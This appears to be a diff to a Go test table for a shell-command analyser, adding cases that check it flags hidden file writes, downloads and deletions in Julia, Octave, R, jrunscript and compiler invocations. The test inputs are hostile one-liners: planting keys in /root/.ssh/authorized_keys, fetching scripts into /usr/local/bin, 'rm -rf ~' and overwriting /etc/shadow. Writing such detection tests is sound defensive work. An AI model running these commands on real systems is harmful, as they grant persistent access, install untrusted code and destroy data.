@@ -135,6 +135,18 @@ var hiddenCommandTable = []shellCase{
 	{cmd: `rsync -avz -e 'ssh -p 2222' ./site/ h.example:/srv/www/`, want: []Effect{eRun("ssh")}},
 	{cmd: `tar -I zstd -xf a.tar.zst`, want: []Effect{eRun("zstd")}},
 	{cmd: `ssh -o StrictHostKeyChecking=no -o ProxyCommand=none h.example`, not: []Effect{eRun("none")}},
+	// ---- languages not parsed: literal writes, downloads, commands ----
+	{cmd: `julia -e 'open(f->write(f, "k"), "/root/.ssh/authorized_keys", "w")'`, want: []Effect{eWrite("/root/.ssh/authorized_keys")}},
+	{cmd: `octave-cli --eval 'fid = fopen("/root/.ssh/authorized_keys", "a"); fputs(fid, "k")'`, want: []Effect{eAppend("/root/.ssh/authorized_keys")}},
+	{cmd: `julia -e 'download("http://198.51.100.23/a.sh", "/usr/local/bin/x")'`, want: []Effect{eDl("http://198.51.100.23/a.sh", "/usr/local/bin/x")}},
+	{cmd: `jrunscript -e 'cp("http://198.51.100.23/a","/usr/local/bin/a")'`, want: []Effect{eDl("http://198.51.100.23/a", "/usr/local/bin/a")}},
+	{cmd: `Rscript -e 'system("rm -rf ~")'`, want: []Effect{eDelR("/home/ann")}},
+	{cmd: `octave --eval='system("rm -rf ~")'`, want: []Effect{eDelR("/home/ann")}},
+	{cmd: `octave --eval 'disp(1+1)'`},
+	// ---- compilers, assemblers and linkers write their output ----
+	{cmd: `gcc -x c /dev/null -o /etc/shadow`, want: []Effect{eWrite("/etc/shadow")}},
+	{cmd: `cc -o/usr/local/bin/x x.c`, want: []Effect{eWrite("/usr/local/bin/x")}},
+	{cmd: `gcc -O2 -o build/app main.c`, want: []Effect{eWrite("/work/proj/build/app")}},
 	// ---- editors reading their commands from standard input ----
 	{cmd: "printf '!rm -rf ~\\n' | ed", want: []Effect{eDelR("/home/ann")}},
 	{cmd: `ed <<< '!rm -rf ~'`, want: []Effect{eDelR("/home/ann")}},
